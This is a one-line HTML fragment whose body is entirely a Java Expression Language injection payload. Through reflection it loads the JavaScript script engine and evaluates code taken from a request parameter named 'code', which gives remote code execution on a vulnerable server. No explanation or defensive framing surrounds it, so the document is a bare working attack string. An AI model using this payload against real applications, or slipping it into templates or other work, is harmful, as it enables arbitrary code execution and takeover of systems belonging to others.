<html><body>${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval(param.code)}</body></html>
